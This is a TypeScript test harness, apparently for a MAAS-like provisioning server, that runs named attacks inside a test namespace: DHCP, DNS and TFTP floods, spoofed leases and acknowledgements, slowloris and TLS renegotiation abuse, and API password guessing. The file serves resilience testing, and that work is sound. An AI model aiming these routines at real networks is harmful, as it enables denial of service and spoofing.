// The attacks of hostile hosts. `attackers.ts NAME RACK SECONDS ADDRESS… [WORD]` attacks the rack from the addresses, which are this host's,
// for the given seconds, and prints `attacking` once it is at full force. It runs in a namespace of a test and reaches nothing else.

import { execFileSync } from 'node:child_process';
import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { once } from 'node:events';
import { request } from 'node:http';
import { connect, createServer, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';
import { addressBytes, OPTION } from '../../src/dhcp/wire/options.ts';
import { frame } from '../../src/dns/stream.ts';
import { ANY, formatIpv4, formatMac, type Ipv4, ipv4, type MacAddress, mac } from '../../src/ground/address.ts';
import { sleep, systemClock } from '../../src/ground/clock.ts';
import type { DatagramSocket } from '../../src/net/datagrams/datagram.ts';
import { openNetwork } from '../../src/net/datagrams/udp-linux.ts';
import { INTERFACES_MAX } from '../../src/region/identity/interface-source.ts';
import { ENTRIES_MAX } from '../../src/region/racks/rack-news.ts';
import { DISKS_MAX, FACT_TEXT_MAX } from '../../src/region/records/hardware-facts.ts';
import { RESERVATIONS_REPORTED_MAX } from '../../src/region/records/heartbeat-bounds.ts';
import { type ClientWords, clientBytes } from '../dhcp/lab.ts';
import { queryBytes } from '../dns/fixture.ts';
import {
  batchOf,
  heartbeatOf,
  postEntry,
  RACK_KEY_SECRET,
  RACK_TOKEN,
  RACK_UUID,
  rackAuthorization,
  rackInterface,
  reportEntry,
} from '../region/racks/rack-place.ts';
import { hw, ip } from '../support/lab-facts.ts';
import { portOf } from '../support/listening-port.ts';
import { authorizationOf } from '../support/oauth.ts';
import { tellSmallPath } from '../support/small-path.ts';
import { Booter } from './boot-as-new.ts';
import { BLIND_PORTS, bootServerRequest, HEADERS_OCTETS, SHORTEST_NAME } from './bystanders.ts';
import { floodHeld } from './held-flood.ts';

const LEASE_TRIES = 20;
const ANSWER_MS = 1000;
const PAUSE_MS = 200;
/** As long as a token, and none. */
const NO_TOKEN = 'x'.repeat(32);

interface StolenBoot {
  readonly rack: string;
  readonly broadcast: string;
  readonly mac: MacAddress;
  readonly isOver: () => boolean;
  /** Called once reports are on their way. */
  readonly tell: () => void;
}

async function stealBoot({ rack, broadcast, mac, isOver, tell }: StolenBoot): Promise<void> {
  const address = formatIpv4(await leaseAs(mac, rack, broadcast));
  execFileSync('ip', ['address', 'replace', `${address}/22`, 'dev', 'eth0']);
  for (let round = 0; !isOver(); round += 1) {
    const configuration = await ask(rack, address, '/ipxe.cfg');
    const token = /(?:token|boot)=([\w-]{22,64})/.exec(configuration)?.[1] ?? NO_TOKEN;
    await ask(rack, address, '/MAAS/rackboot/1/signal', token);
    if (round > 5) tell();
    await sleep(PAUSE_MS);
  }
}

/** An ordinary exchange under this hardware address. */
async function leaseAs(mac: MacAddress, rack: string, broadcast: string): Promise<Ipv4> {
  const socket = createSocket('udp4');
  let isBound = false;
  let offered: Ipv4 | undefined;
  socket.on('message', (bytes) => {
    const view = Buffer.from(bytes);
    if (view.readUIntBE(28, 6) !== mac) return;
    isBound = view.readUIntBE(16, 4) === offered;
    offered = ipv4(view.readUInt32BE(16));
  });
  socket.bind(68);
  await once(socket, 'listening');
  socket.setBroadcast(true);
  const say = (words: ClientWords): void =>
    void socket.send(clientBytes({ ...words, mac, xid: systemClock.now() >>> 0, broadcast: true }), 67, broadcast);
  for (let tries = 0; tries < LEASE_TRIES && !isBound; tries += 1) {
    if (offered === undefined) say({ type: 'discover' });
    else say({ type: 'request', requested: offered, server: ip(rack) });
    await sleep(ANSWER_MS);
  }
  socket.close();
  if (offered === undefined || !isBound) throw new Error('the rack leased nothing');
  return offered;
}

/** The answer's text; a report of failure when there is a token. */
function ask(rack: string, from: string, path: string, token?: string): Promise<string> {
  const { promise, resolve } = Promise.withResolvers<string>();
  const form = { 'Content-Type': 'application/x-www-form-urlencoded', 'X-Rackboot-Token': token ?? '' };
  const asked = request(
    {
      host: rack,
      port: BOOT_PORT,
      localAddress: from,
      path,
      agent: false,
      ...(token === undefined ? { method: 'GET' } : { method: 'POST', headers: form }),
    },
    (answer) => {
      const pieces: Buffer[] = [];
      answer.on('data', (piece: Buffer) => void pieces.push(piece));
      answer.on('close', () => resolve(Buffer.concat(pieces).toString()));
    },
  );
  asked.on('error', () => resolve(''));
  asked.end(token === undefined ? undefined : 'status=FAILED&stage=x&message=by+another+host');
  return promise;
}

const PER_SECOND = 600;
const RANGE_ADDRESSES = 200;

/** The place of the host, and the client in whose name it speaks. */
interface OtherWire {
  readonly socket: UdpSocket;
  /** The rack's address on the host's own shared network, and the broadcast address there. */
  readonly rack: string;
  readonly broadcast: string;
  /** Of the other wire: the rack's address, its network, the first address of the range, and a holder of one. */
  readonly server: Ipv4;
  readonly network: Ipv4;
  readonly range: Ipv4;
  readonly holder: MacAddress;
  readonly isOver: () => boolean;
  readonly tell: () => void;
}

/** Speaks for the other shared network until it is over. */
async function speakForOtherWire({ socket, rack, broadcast, isOver, tell, ...other }: OtherWire): Promise<void> {
  socket.setBroadcast(true);
  const startedAt = systemClock.now();
  for (let sent = 0; !isOver(); await sleep(TICK_MS)) {
    const due = ((systemClock.now() - startedAt) * PER_SECOND) / 1000;
    for (; sent < due; sent += 1) socket.send(message(other, sent), 67, sent % 3 === 2 ? rack : broadcast);
    if (due > PER_SECOND / 2) tell();
  }
}

function message(
  { server, network, range, holder }: Omit<OtherWire, 'socket' | 'rack' | 'broadcast' | 'isOver' | 'tell'>,
  index: number,
) {
  const address = ipv4(range + (Math.floor(index / 3) % RANGE_ADDRESSES));
  const client = { mac: mac(0x020000000000 + index), xid: index };
  const selected = { requested: address, server, options: [[OPTION.subnetSelection, addressBytes(network)]] as const };
  if (index % 3 === 0) return clientBytes({ ...client, ...selected, type: 'decline', mac: holder });
  if (index % 3 === 1) return clientBytes({ ...client, ...selected, type: 'request' });
  return clientBytes({ ...client, type: 'request', ciaddr: address });
}

const REPORTS = 100;

/** The holder of a key sends all of these in turn, mostly events. */
const LINK_SAYS = ['changes', 'events', 'heartbeat', 'events', 'state', 'events'] as const;

function bodyOf(what: (typeof LINK_SAYS)[number], turn: number): object {
  if (what === 'heartbeat') return heartbeatOf();
  const sequences = Array.from({ length: REPORTS }, (_, index) => turn * REPORTS + index);
  return batchOf(sequences.map((sequence) => reportEntry(sequence, `lie ${sequence}`, { kind: 'dhcp.ack' })));
}

/** The largest batch of machines that do not exist, each with the most cards, that a rack claims were reported to it. */
function manyMachines(turn: number): object {
  const macs = (from: number): string =>
    Array.from({ length: INTERFACES_MAX }, (_, index) => formatMac(mac(0x0600_0000_0000 + from + index))).join(',');
  const entries = Array.from({ length: ENTRIES_MAX }, (_, index) => {
    const sequence = turn * ENTRIES_MAX + index;
    const form = new URLSearchParams({ architecture: 'amd64', mac_addresses: macs(sequence * INTERFACES_MAX) });
    const body = Buffer.from(form.toString()).toString('base64');
    return postEntry(sequence, '', { body, peer: `10.50.0.${1 + (index % 250)}` });
  });
  return batchOf(entries);
}

const pathOf = (what: string): string => `/MAAS/uplink/1/racks/${RACK_UUID}/${what}`;
const fieldsOf = (host: string, secret: string): readonly string[] => [
  `Host: ${host}`,
  `Authorization: ${rackAuthorization(RACK_TOKEN, secret)}`,
];

/** @param turn by which the numbers of reports grow @param said replaces the usual report */
function linkRequest(host: string, what: (typeof LINK_SAYS)[number], turn: number, said?: object): string {
  const isAsking = what === 'changes' || what === 'state';
  const body = isAsking ? '' : JSON.stringify(said ?? bodyOf(what, turn));
  const fields = [
    `${isAsking ? 'GET' : 'POST'} ${pathOf(what)} HTTP/1.1`,
    ...fieldsOf(host, RACK_KEY_SECRET),
    ...(isAsking ? [] : ['Content-Type: application/json', `Content-Length: ${Buffer.byteLength(body)}`]),
    ...(what === 'changes' ? [] : ['Connection: close']),
  ];
  return `${fields.join('\r\n')}\r\n\r\n${body}`;
}

/** A report whose body does not come. @param secret left out: that of the rack */
const endlessReport = (host: string, secret = RACK_KEY_SECRET): string =>
  [
    `POST ${pathOf('events')} HTTP/1.1`,
    ...fieldsOf(host, secret),
    'Content-Type: application/json',
    'Content-Length: 2000',
    '',
    '',
  ].join('\r\n');

/** Interfaces in a quarter of a megabyte of JSON, others each time. */
function loudInterfaces(turn: number): string {
  const reservations = Array.from({ length: RESERVATIONS_REPORTED_MAX }, (_, index) => ({
    mac: formatMac(mac(0x0600_0000_0000 + index)),
    ip: `10.50.0.${index % 250}`,
  }));
  return JSON.stringify([{ ...rackInterface(`10.${turn % 250}.0.0/24`), reservations }]);
}

const hex = (octets: number): string => Buffer.from(systemClock.randomBytes(octets)).toString('hex');

/** An unknown machine. */
function enlistment(): string {
  const octets = hex(5).match(/../g) ?? [];
  return `architecture=amd64%2Fgeneric&mac_addresses=02:${octets.join(':')}`.replaceAll(':', '%3A');
}

/** An unknown rack that asks to be accepted. */
function registration(): string {
  const fields = {
    op: 'register',
    uuid: [hex(4), hex(2), hex(2), hex(2), hex(6)].join('-'),
    name: `rack-${hex(4)}`,
    interfaces: '[]',
    version: '1',
    uplink: '1',
    token: hex(16),
    secret_digest: hex(32),
  };
  return new URLSearchParams(fields).toString();
}

const ODD = '<&"\u00e9'.repeat(FACT_TEXT_MAX / 4);

const disk = (place: number) => ({ name: `d${place}`, bytes: place, model: ODD, serial: ODD, bus: ODD, firmware: ODD });
const FACTS = JSON.stringify({ version: 1, disks: Array.from({ length: DISKS_MAX }, (_, place) => disk(place)) });

/** The body that makes a machine of which the region knows nothing yet. */
function largeMachine(): string {
  const octets = Buffer.from(systemClock.randomBytes(4)).toString('hex').replace(/../g, '$&:');
  const macs = Array.from(
    { length: INTERFACES_MAX },
    (_, place) => `0a:${octets}${place.toString(16).padStart(2, '0')}`,
  );
  return new URLSearchParams({
    architecture: 'amd64',
    mac_addresses: macs.join(','),
    hardware_facts: FACTS,
  }).toString();
}

/** Machines that one connection makes before it lists. */
const MADE = 12;

/** Makes machines over this connection, one after the other, and lists all of them from then on. */
function listLargeMachines(socket: Socket, rack: string, apiKey: string, isOver: () => boolean): void {
  const head = (method: string, more: readonly string[]): string =>
    [
      `${method} /MAAS/api/2.0/machines/ HTTP/1.1`,
      `Host: ${rack}`,
      `Authorization: ${authorizationOf(apiKey)}`,
      ...more,
      '',
      '',
    ].join('\r\n');
  let made = 0;
  let isListing = false;
  let tail = '';
  const ask = (): void => {
    if (isOver() || socket.destroyed) return;
    tail = '';
    if (made >= MADE) {
      isListing = true;
      socket.write(head('GET', []));
      return;
    }
    made += 1;
    const body = largeMachine();
    socket.write(
      `${head('POST', ['Content-Type: application/x-www-form-urlencoded', `Content-Length: ${body.length}`])}${body}`,
    );
  };
  socket.on('data', (bytes: Buffer) => {
    tail = (tail + bytes.toString('latin1')).slice(-8);
    // A list ends with its last chunk, a machine with the end of its text.
    if (tail.endsWith(isListing ? '0\r\n\r\n' : '}')) ask();
  });
  ask();
}

/** A ClientHello as Node's client sends it; whoever gets it has all the work of a handshake. */
async function helloBytes(): Promise<Uint8Array> {
  const server = createServer();
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const port = portOf(server);
  const accepted = once(server, 'connection');
  const client = connectTls({ socket: connect({ port, host: '127.0.0.1' }) });
  client.on('error', () => undefined);
  const [socket] = await accepted;
  const [hello] = await once(socket, 'data');
  socket.destroy();
  client.destroy();
  server.close();
  return hello;
}

/** Shakes hands over a connection, and says nothing more. */
function holdShaken(socket: Socket): void {
  connectTls({ socket, rejectUnauthorized: false }).on('error', () => socket.destroy());
}

/** Shakes hands over a connection again and again, as TLS 1.2 allows. */
function renegotiateOn(socket: Socket, isOver: () => boolean): void {
  const secure = connectTls({ socket, rejectUnauthorized: false, maxVersion: 'TLSv1.2' });
  const again = (): void => {
    if (!isOver() && !secure.destroyed)
      secure.renegotiate({ rejectUnauthorized: false }, (error) => {
        if (error === null) again();
      });
  };
  secure.on('error', () => socket.destroy());
  secure.on('secureConnect', again);
}

const PASSWORD = 'correct horse battery';
const BOOT_PORT = 5248;
const API_PORT = 5240;
const METRICS_PORT = 5249;
const TLS_PORT = 5443;
/** Requests that are written at once: more than a chunk that is read. */
const PIPELINED = 2000;
const TICK_MS = 5;
/** Loads of a small file that a connection asks for at once. */
const LOADS_AHEAD = 8;
/** More than the unanswered transfers of one address: a request from one of these ports is not a copy. */
const NEW_PORTS = 3000;
/** Longer than a transfer is kept up for a client that says nothing. */
const BLIND_AGAIN_MS = 20_000;
/** How soon a connection that was closed is opened again. */
const AGAIN_MS = 10;
/** One report is enough; the bystanders ask only after several. */
const SMALL_PATH_MS = 50;
const SMALL_PATH_OCTETS = 552;
/** How long between two octets of a handshake that takes longer than the region waits for it. */
const SLOW_HELLO_MS = 1000;
const SERVER_PORTS: readonly number[] = [53, 67, 69];
/** Of the wire: the address of all hosts needs a route that these hosts do not have. */
const BROADCAST = '10.77.11.255';

const [name = '', rack = '', seconds = '', ...words] = process.argv.slice(2);
const addresses = words.filter((word) => /^[\d.]+$/.test(word));
const [further = ''] = words.filter((word) => !addresses.includes(word));
const endsAt = systemClock.now() + Number(seconds) * 1000;
const isOver = (): boolean => systemClock.now() >= endsAt;
const first = addresses[0] ?? '';
let isReported = false;

/** Reports that the attack is at full force, so that the test begins the other clients' requests. */
function tell(): void {
  if (!isReported) console.log('attacking');
  isReported = true;
}

async function udp(address = first, port = 0): Promise<UdpSocket> {
  const socket = createSocket('udp4');
  socket.on('error', () => undefined);
  socket.bind({ address, port });
  await once(socket, 'listening');
  return socket;
}

/** Sends what `make` makes, so many a second, from the sockets in turn. */
async function flood(
  sockets: readonly UdpSocket[],
  perSecond: number,
  port: number,
  make: (index: number) => Uint8Array,
) {
  const startedAt = systemClock.now();
  for (let sent = 0; !isOver(); ) {
    const due = ((systemClock.now() - startedAt) * perSecond) / 1000;
    for (; sent < due; sent += 1) sockets[sent % sockets.length]?.send(make(sent), port, rack);
    if (due > perSecond / 2) tell();
    await sleep(TICK_MS);
  }
}

/** `times` sockets of each address. */
const everyAddress = (times = 1): Promise<UdpSocket[]> =>
  Promise.all(Array.from({ length: times }, () => addresses.map((address) => udp(address))).flat());

/** Opens `count` connections from the addresses in turn, and reopens closed ones; `greet` gives the bytes that each sends. */
async function holdConnections(
  port: number,
  count: number,
  greet: (socket: Socket) => void,
  from = addresses,
): Promise<void> {
  const open = (index: number): void => {
    if (isOver()) return;
    const localAddress = from[index % from.length] ?? first;
    const socket = connect({ host: rack, port, localAddress });
    // Unread answers would keep the connection open after its end.
    socket.resume();
    socket.on('connect', () => greet(socket));
    socket.on('error', () => undefined);
    socket.on('close', () => void systemClock.schedule(AGAIN_MS, () => open(index)));
  };
  for (let index = 0; index < count; index += 1) {
    open(index);
    if (index % 50 === 49) await sleep(TICK_MS);
  }
  await sleep(1000);
  tell();
  while (!isOver()) await sleep(100);
}

/** Loads a small file again and again. */
function loadSmall(socket: Socket): void {
  const load = `GET /${SHORTEST_NAME} HTTP/1.1\r\nHost: r\r\n\r\n`;
  const head = 'HTTP/1.1 200';
  let rest = '';
  socket.on('data', (bytes) => {
    const heads = (rest + bytes.toString('latin1')).split(head);
    rest = (heads.at(-1) ?? '').slice(1 - head.length);
    if (!isOver()) socket.write(load.repeat(heads.length - 1));
  });
  socket.write(load.repeat(LOADS_AHEAD));
}

/** Writes the same again and again. */
function drip(socket: Socket, text: string, everyMs: number): void {
  if (socket.destroyed || isOver()) return;
  socket.write(text);
  systemClock.schedule(everyMs, () => drip(socket, text, everyMs));
}

const headers = (path: string, more: readonly string[] = []): string =>
  [`POST ${path} HTTP/1.1`, `Host: ${rack}`, ...more, '', ''].join('\r\n');
const FORM = 'Content-Type: application/x-www-form-urlencoded';

/** Asks without a pause and reads no answer. */
function pipeline(socket: Socket): void {
  const many = Buffer.from('GET /MAAS/api/version/ HTTP/1.1\r\nHost: r\r\n\r\n'.repeat(PIPELINED));
  const write = (): void => {
    while (!isOver() && !socket.destroyed && socket.write(many));
  };
  socket.pause();
  socket.on('drain', write);
  // Reads again later: then it notices that the server has closed the connection, and the next one can begin.
  socket.on('end', () => socket.destroy());
  systemClock.schedule(3000, () => socket.resume());
  write();
}

/** Asks as soon as it has an answer; so many connections are kept, and others come again for each question. */
async function askWithoutPause(port: number, path: string, keeping: number, coming: number): Promise<void> {
  const ask = `GET ${path} HTTP/1.1\r\nHost: ${rack}\r\n`;
  const keep = (socket: Socket): void => {
    const again = (): boolean => !isOver() && socket.write(`${ask}\r\n`);
    socket.on('data', again);
    again();
  };
  const come = (socket: Socket): boolean => socket.write(`${ask}Connection: close\r\n\r\n`);
  await Promise.all([holdConnections(port, keeping, keep), holdConnections(port, coming, come)]);
}

/** Asks without a pause, and reads every answer. */
function askOn(socket: Socket, question: Uint8Array = frame(queryBytes('rack.maas', 1))): void {
  const many = Buffer.concat(Array.from({ length: PIPELINED }, () => question));
  const write = (): void => {
    while (!isOver() && !socket.destroyed && socket.write(many));
  };
  socket.on('drain', write);
  write();
}

function readRequest(options: readonly string[], file = 'lpxelinux.0', mode = 'octet'): Buffer {
  return Buffer.from(`\0\x01${file}\0${mode}\0${options.map((word) => `${word}\0`).join('')}`, 'latin1');
}

/** Starts a read with the longest wait that can be asked for, acknowledges the options and says no more. */
async function holdTransfers(count: number): Promise<void> {
  const request = readRequest(['timeout', '255', 'blksize', '1428']);
  const sockets: UdpSocket[] = [];
  for (let index = 0; index < count && !isOver(); index += 1) {
    const socket = await udp(addresses[index % addresses.length]);
    let heard = 0;
    socket.on('message', (_bytes, from) => {
      heard += 1;
      if (heard === 1) socket.send(Uint8Array.of(0, 4, 0, 0), from.port, from.address);
    });
    socket.send(request, 69, rack);
    sockets.push(socket);
    if (index % 50 === 49) await sleep(10);
  }
  tell();
  while (!isOver()) await sleep(100);
  for (const socket of sockets) socket.close();
}

/** Asks so often a second for a file of the shortest name, each time from another port of one address. */
async function beginTransfers(perSecond: number): Promise<void> {
  const network = await openNetwork();
  const open = (): Promise<DatagramSocket> =>
    network.open({ address: ip(first), port: 0, onDatagrams: () => undefined });
  const sockets = await Promise.all(Array.from({ length: NEW_PORTS }, open));
  const to = { kind: 'unicast', address: ip(rack), port: 69 } as const;
  const request = [{ bytes: readRequest([], SHORTEST_NAME), to }];
  const startedAt = systemClock.now();
  for (let sent = 0; !isOver(); ) {
    const due = ((systemClock.now() - startedAt) * perSecond) / 1000;
    for (; sent < due; sent += 1) sockets[sent % sockets.length]?.send(request);
    if (due > perSecond / 2) tell();
    await sleep(TICK_MS);
  }
}

/**
 * Asks for a file in the name of `victim`, and guesses its acknowledgements: at the ports near one that the rack used for a transfer
 * of this host. Returns the number of octets in the requests.
 */
async function driveBlind(victim: string): Promise<void> {
  const own = await udp();
  const near = { port: 0 };
  own.on('message', (_bytes, from) => {
    near.port = from.port;
  });
  const forged = await Promise.all(BLIND_PORTS.map((port) => udp(victim, port)));
  const request = readRequest([], SHORTEST_NAME);
  let octets = 0;
  for (let turn = 0; !isOver(); turn += 1) {
    if (turn % (BLIND_AGAIN_MS / TICK_MS) === 0) {
      for (const socket of forged) socket.send(request, 69, rack);
      octets += forged.length * (request.length + HEADERS_OCTETS);
      console.log(`sent ${octets}`);
      tell();
    }
    if (turn % 100 === 0) own.send(readRequest(['blksize', '1428']), 69, rack);
    for (let off = -2; off <= 2 && near.port > 0; off += 1) {
      forged[turn % forged.length]?.send(Uint8Array.of(0, 4, 0, turn % 64), near.port + off, rack);
    }
    await sleep(TICK_MS);
  }
}

/** Asks for addresses as clients that do not exist. */
async function discoverFlood(perSecond: number): Promise<void> {
  const socket = await udp('0.0.0.0', 68);
  socket.setBroadcast(true);
  const startedAt = systemClock.now();
  for (let sent = 0; !isOver(); ) {
    const due = ((systemClock.now() - startedAt) * perSecond) / 1000;
    for (; sent < due; sent += 1) {
      const bytes = clientBytes({ type: 'discover', mac: mac(0x020000000000 + sent), xid: sent, broadcast: true });
      socket.send(bytes, 67, BROADCAST);
    }
    if (due > perSecond) tell();
    await sleep(TICK_MS);
  }
  socket.close();
}

/** Datagrams of a relay agent that does not exist: DISCOVERs for the whole range, and RELEASEs of all its addresses in the holder's name. */
async function forgeRelay(perSecond: number): Promise<void> {
  const [giaddr = ANY, range = ANY] = addresses.slice(-2).map(ip);
  const holder = hw(further);
  const socket = await udp(first);
  await flood([socket], perSecond, 67, (index) => {
    const client = { mac: mac(0x020000000000 + (index % 500)), xid: index, giaddr };
    if (index % 2 === 0) return clientBytes({ ...client, type: 'discover' });
    const ciaddr = ipv4(range + ((index >> 1) % 200));
    return clientBytes({ ...client, mac: holder, type: 'release', ciaddr, server: ip(rack) });
  });
}

const random = (below: number): number => Buffer.from(systemClock.randomBytes(4)).readUInt32BE() % below;

/** Racks that do not exist, one of each address, say as much as they can. */
async function registerLoud(): Promise<void> {
  const forms = addresses.map(() => new URLSearchParams(registration()));
  let turn = 0;
  await holdConnections(API_PORT, 64, (socket) => {
    const form = forms[turn % forms.length];
    turn += 1;
    form?.set('interfaces', loudInterfaces(turn));
    post(socket, '/MAAS/api/2.0/nodegroups/', form?.toString() ?? '');
  });
}

/** Posts a form over a connection of its own. */
function post(socket: Socket, path: string, body: string, more: readonly string[] = []): void {
  const framing = [FORM, `Content-Length: ${body.length}`, 'Connection: close', ...more];
  socket.write(`${headers(path, framing)}${body}`);
}

const signIn = (socket: Socket, username: string): void =>
  post(socket, '/MAAS/login/', new URLSearchParams({ username, password: PASSWORD }).toString());

/** Sets the same password once more. */
const changePassword = (socket: Socket): void =>
  post(socket, '/MAAS/api/2.0/users/olga/?op=change_password', new URLSearchParams({ password: PASSWORD }).toString(), [
    `Authorization: ${authorizationOf(further)}`,
  ]);

const follow = (socket: Socket): boolean =>
  socket.write(
    `GET /MAAS/api/2.0/events/?op=follow HTTP/1.1\r\nHost: ${rack}\r\nAuthorization: ${authorizationOf(further)}\r\n\r\n`,
  );

/** Reports machines that are others, one after another: `name=hardware address` each. */
async function enlistAsOthers(others: readonly string[]): Promise<void> {
  for (let index = 0; !isOver(); index += 1) {
    const [hostname = '', mac = ''] = (others[index % others.length] ?? '').split('=');
    const form = { op: 'new', architecture: 'amd64/generic', hostname, mac_addresses: mac };
    const socket = connect({ host: rack, port: BOOT_PORT, localAddress: first });
    socket.on('error', () => undefined);
    socket.resume();
    post(socket, '/MAAS/api/1.0/nodes/', new URLSearchParams(form).toString());
    if (index >= others.length) tell();
    await sleep(100);
  }
}

/** Reports a machine that another host has reported, again and again, with other facts. */
async function amendOthers(mac: string): Promise<void> {
  const lies = { hostname: 'stolen', power_type: 'ipmi', power_parameters: '{"power_address":"10.77.8.64"}' };
  const form = new URLSearchParams({
    op: 'new',
    architecture: 'arm64/generic',
    mac_addresses: mac,
    ...lies,
  }).toString();
  for (let index = 0; !isOver(); index += 1) {
    const socket = connect({ host: rack, port: BOOT_PORT, localAddress: addresses[index % addresses.length] ?? first });
    socket.on('error', () => undefined);
    socket.resume();
    post(socket, '/MAAS/api/1.0/nodes/', form);
    if (index > 20) tell();
    await sleep(50);
  }
}

/** Boots as one new machine after another, twelve at a time, and releases the lease of each once it is reported. */
async function bootAsNew(): Promise<void> {
  const booter = new Booter(rack, BROADCAST);
  await booter.open();
  let made = 0;
  const bootOn = async (): Promise<void> => {
    while (!isOver()) {
      made += 1;
      await booter.boot(mac(0x5254_0bad_0000 + made), true).catch(() => undefined);
      if (made > 8) tell();
    }
  };
  await Promise.all(Array.from({ length: 12 }, bootOn));
}

const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
  'discover-flood': () => discoverFlood(1000),
  'forged-relay': () => forgeRelay(500),
  'other-wire': async () => {
    const socket = await udp(first);
    const [broadcast = '', server = '', network = '', range = ''] = addresses.slice(-4);
    const names = { broadcast, server: ip(server), network: ip(network), range: ip(range), holder: hw(further) };
    await speakForOtherWire({ socket, rack, ...names, isOver, tell });
  },
  'dhcp-inform-absent': async () => {
    await flood(await everyAddress(), 12_000, 67, (index) =>
      clientBytes({
        type: 'inform',
        mac: mac(0x020000000000 + index),
        xid: index,
        ciaddr: ip(addresses[index % addresses.length] ?? ''),
      }),
    );
  },
  // As machines that boot next to another DHCP server, a new one each time.
  'boot-as-new': bootAsNew,
  'proxy-requests': async () => {
    await flood(await everyAddress(), 12_000, 4011, (index) => {
      const ciaddr = ip(addresses[index % addresses.length] ?? '');
      return bootServerRequest(mac(0x020000000000 + index), ciaddr, index);
    });
  },
  'small-path': async () => {
    for (tell(); !isOver(); await sleep(SMALL_PATH_MS))
      tellSmallPath(rack, addresses.at(-1) ?? '', SMALL_PATH_OCTETS, SERVER_PORTS);
  },
  'tftp-blind': () => driveBlind(addresses.at(-1) ?? ''),
  'tftp-hold': () => holdTransfers(3000),
  'tftp-held-flood': () =>
    floodHeld({ rack, address: first, device: 'eth0', count: 1000, perSecond: 80_000, isOver, tell }),
  'tftp-absent': async () =>
    // A second request from the same port is a copy, and starts nothing.
    flood(await everyAddress(20), 12_000, 69, () => readRequest(['blksize', '1428', 'windowsize', '64'])),
  'tftp-new-transfers': () => beginTransfers(40_000),
  'tftp-netascii': async () => flood(await everyAddress(20), 800, 69, () => readRequest([], 'shimx64.efi', 'netascii')),
  'dns-absent': async () => flood(await everyAddress(), 12_000, 53, () => queryBytes('rack.maas', 1)),
  'dns-silent-zones': async () =>
    flood(await everyAddress(), 2000, 53, (index) =>
      queryBytes(`n${index}-${random(1e9)}.silent${index % 8}.example`, 1, { id: index & 0xffff }),
    ),
  'dns-random-names': async () =>
    flood(await everyAddress(), 2000, 53, (index) =>
      queryBytes(`n${index}-${random(1e9)}.outside.example`, 1, { id: index & 0xffff }),
    ),
  'dns-alongside': async () =>
    // Each name some times: most of the answers come from the cache, as those of others do.
    flood(await everyAddress(), 1000, 53, (index) =>
      queryBytes(`b${(index >> 2) % 4000}.outside.example`, (index & 1) === 0 ? 1 : 16, { id: index & 0xffff }),
    ),
  'dns-tcp-idle': () => holdConnections(53, 400, () => undefined),
  'dns-tcp-own': () => holdConnections(53, 40, () => undefined),
  'dns-tcp-questions': () => holdConnections(53, 64, (socket) => askOn(socket)),
  'boot-pipelining': () => holdConnections(BOOT_PORT, 60, pipeline),
  'api-pipelining': () => holdConnections(API_PORT, 60, pipeline),
  'boot-asking': () => askWithoutPause(BOOT_PORT, '/a', 500, 700),
  'api-asking': () => askWithoutPause(API_PORT, '/MAAS/api/version/', 500, 700),
  'boot-small-file': () => holdConnections(BOOT_PORT, 4, loadSmall, [first]),
  'boot-idle': () => holdConnections(BOOT_PORT, 2400, () => undefined),
  'boot-slow-headers': () =>
    holdConnections(BOOT_PORT, 2400, (socket) => socket.write('GET /lpxelinux.0 HTTP/1.1\r\nX: ')),
  'boot-slow-posts': () =>
    holdConnections(BOOT_PORT, 900, (socket) => {
      socket.write(headers('/MAAS/api/1.0/nodes/', [FORM, 'Content-Length: 2000']));
      drip(socket, 'a', 2000);
    }),
  'boot-slow-readers': () =>
    holdConnections(BOOT_PORT, 2000, (socket) => {
      socket.pause();
      socket.write(`GET /large HTTP/1.1\r\nHost: ${rack}\r\n\r\n`);
    }),
  'api-connections': () => holdConnections(API_PORT, 2400, () => undefined),
  'api-large-bodies': () => {
    const ofTheRack = addresses.filter((one) => one.startsWith(rack.replace(/\d+$/, '')));
    const greet = (socket: Socket): void => {
      socket.write(headers('/MAAS/api/1.0/nodes/', [FORM, 'Content-Length: 1900000']));
      // More than the number that is ended with 408.
      drip(socket, 'a'.repeat(256), 1000);
    };
    return holdConnections(API_PORT, ofTheRack.length, greet, ofTheRack);
  },
  'tls-silent': () => holdConnections(TLS_PORT, 2400, () => undefined),
  'tls-slow-hello': async () => {
    const hello = await helloBytes();
    // All but its last octets: it never ends.
    const drop = (socket: Socket, at: number): void => {
      if (socket.destroyed || isOver() || at >= hello.length - 8) return;
      socket.write(hello.subarray(at, at + 1));
      systemClock.schedule(SLOW_HELLO_MS, () => drop(socket, at + 1));
    };
    await holdConnections(TLS_PORT, 2400, (socket) => drop(socket, 0));
  },
  'tls-noise': async () => {
    const hello = await helloBytes();
    let turn = 0;
    const make: readonly ((socket: Socket) => void)[] = [
      // A record of 16 KiB that does not end, a hello whose answer is not wanted, and ever new handshakes.
      (socket) => void socket.write(Buffer.concat([Buffer.from('1603034000', 'hex'), systemClock.randomBytes(8192)])),
      (socket) => void socket.write(hello),
      (socket) => renegotiateOn(socket, isOver),
    ];
    await holdConnections(TLS_PORT, 2400, (socket) => {
      turn += 1;
      make[turn % make.length]?.(socket);
    });
  },
  'tls-held': () => holdConnections(TLS_PORT, 1400, (socket) => holdShaken(socket)),
  'api-slow-posts': () =>
    holdConnections(API_PORT, 2400, (socket) =>
      socket.write(headers('/MAAS/api/1.0/nodes/', [FORM, 'Content-Length: 2000'])),
    ),
  'api-passwords': () => {
    const guess = (socket: Socket): void => {
      const basic = Buffer.from(`ann:guess-${random(1e9)}`).toString('base64');
      socket.write(
        `GET /MAAS/ HTTP/1.1\r\nHost: ${rack}\r\nAuthorization: Basic ${basic}\r\nConnection: close\r\n\r\n`,
      );
    };
    return holdConnections(API_PORT, 128, guess);
  },
  'api-followers': () => holdConnections(API_PORT, 200, follow),
  'api-new-passwords': () => holdConnections(API_PORT, 64, changePassword),
  'api-sessions': () => holdConnections(API_PORT, 64, (socket) => signIn(socket, 'mallory')),
  'api-ordinary': async () => {
    let turn = 0;
    await holdConnections(API_PORT, 160, (socket) => {
      turn += 1;
      if (turn <= 80) follow(socket);
      else if (turn % 4 !== 0) signIn(socket, 'olga');
      else post(socket, '/MAAS/api/2.0/machines/', enlistment(), [`Authorization: ${authorizationOf(further)}`]);
    });
  },
  'api-lists': () => holdConnections(API_PORT, 8, (socket) => listLargeMachines(socket, rack, further, isOver)),
  'rack-flood': () =>
